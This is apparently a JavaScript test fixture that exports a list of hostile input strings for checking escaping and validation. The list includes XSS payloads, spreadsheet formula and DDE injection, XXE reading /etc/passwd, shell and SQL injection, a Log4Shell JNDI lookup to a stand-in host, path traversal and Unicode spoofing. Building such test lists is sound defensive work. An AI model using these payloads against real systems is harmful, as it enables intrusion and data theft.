const scripts = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script/src=data:,alert(1)>', '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<body onload=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<details open ontoggle=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<math><mi xlink:href="javascript:alert(1)">x', '<input autofocus onfocus=alert(1)>', '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '--><script>alert(1)</script><!--', ']]><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</desc><script>alert(1)</script>', '</summary><entry><title>x', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', '`onmouseover=alert(1)`', '\\"><script>alert(1)</script>', "\\';alert(1);//", '"};alert(1);//', '</a><a href=javascript:alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;b&amp;gt;', '&nbsp;&copy;&notanentity;', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?php system("id") ?>', '<%= 7*7 %>', '{{7*7}}', '${7*7}', '#{7*7}', '{alert(1)}', '{process.env.HOME}', '<Fact path="x" />', '<style>*{display:none}</style>',
]; // prettier-ignore

const tables = [
  '=1+1', '=HYPERLINK("http://evil.example","x")', '=cmd|\'/C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', ' =1+1', "'=1+1", '"=1+1"', ';=1+1', ',=1+1', '＝1+1', '%0A=1+1', 'a","b', 'a,b;c|d', '"', '""', "'", '|', '| a | b |', 'a | b',
]; // prettier-ignore

const marks = [
  '# Heading', '- item', '1. item', '> quote', '---', '***', '```', '`code`', '``', '**bold**', '_x_', '~~x~~', '[x](javascript:alert(1))', '[x](https://evil.example)', '![x](https://evil.example/x.png)', '[x]: javascript:alert(1)', '<javascript:alert(1)>', '[^1]', '[[x]]', '](', '\\', '\\\\', '\\n', '\\u0000', '\\x3cscript\\x3e', '%3Cscript%3Ealert(1)%3C/script%3E', 'https://evil.example', 'www.evil.example', 'me@evil.example', '@everyone', '#1', 'closes #1',
]; // prettier-ignore

const data = [
  ': x', 'a: b', '- x', '? x', '&a x', '*a', '!tag x', '% x', '@x', '{a: 1}', '[a]', 'null', '~', 'true', 'yes', '0b11', '1e999', '0x1F', '2026-01-01', '.inf', '<<', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'NaN', '[object Object]', 'END:VEVENT', 'BEGIN:VEVENT', 'SUMMARY:x', 'ATTENDEE:mailto:a@evil.example', 'X;Y=Z:1', 'a\\,b\\;c', 'Set-Cookie: a=b', '%0d%0aSet-Cookie: a=b', '/*', '*/', '//', '/../../etc/passwd', '../../etc/passwd', '..\\..\\x', 'C:\\x', 'file:///etc/passwd', '{searchTerms}', '{"a":1}', '@context', '@id', '$ref', "'; DROP TABLE x; --", '$(id)', '`id`', '; rm -rf x', '| id', '%s%s%n', '{0}', '${jndi:ldap://evil.example/a}',
]; // prettier-ignore

const letters = [
  'ﬁligree', 'Ｗｉｄｅ', 'е́vil', 'раураl', 'İstanbul ı', 'ß SS ẞ', 'Å Å', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A', 'שלום עולם', 'مرحبا', '日本語', '한국어', 'ไทย', '👩 🏳️', '𝕳𝖊𝖑𝖑𝖔', '𐍈', 'a'.repeat(200), 'w '.repeat(300).trim(), 'x'.repeat(5_000), '"'.repeat(300), '<'.repeat(300), '&'.repeat(300), '\u202Eevil', 'a\u200Bb', 'a\u0000b', 'a\u001B[31mb', 'a\u007Fb', 'a\u0085b', 'a\u2028b', 'a\uD800b', 'a\uFFFEb', 'a\uFEFFb', 'a\nb', 'a\r\nb', 'a\tb', ' a ', '',
]; // prettier-ignore

const addresses = [
  'https:example.com', 'https:/example.com', 'https:\\\\example.com', 'https://example.com\\@evil.example', 'https://user:pass@example.com', 'https://example.com:8443/', 'https://[::1]/', 'https://127.0.0.1/', 'https://localhost/', 'https://2130706433/', 'https://0x7f.1/', 'https://exаmple.com', 'https://example.com/\u202Ex', 'https://example.com/a b', 'https://example.com/a\tb', 'https://example.com/a\nb', 'https://example.com/"onclick="alert(1)', "https://example.com/'x", 'https://example.com/<script>', 'https://example.com/)[x](javascript:alert(1)', 'https://example.com/?a=1&b=2#c', 'https://example.com/%', 'https://example.com/%00', 'https://example.com/%0d%0ax', 'https://example.com/../..', 'https://example.com/#"><script>alert(1)</script>', 'http://example.com', 'HTTPS://EXAMPLE.COM', '//evil.example', 'javascript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'blob:https://example.com/x', 'mailto:a@example.com', 'ftp://example.com', 'https://', 'https://example', 'https://example..com', 'https://-x.com', 'https://example.com.', 'https://xn--/',
]; // prettier-ignore

/** Values that broke something somewhere: in pages, tables, feeds, calendars, Markdown, YAML, shells, addresses. */
export const hostileValues = [...scripts, ...tables, ...marks, ...data, ...letters, ...addresses];
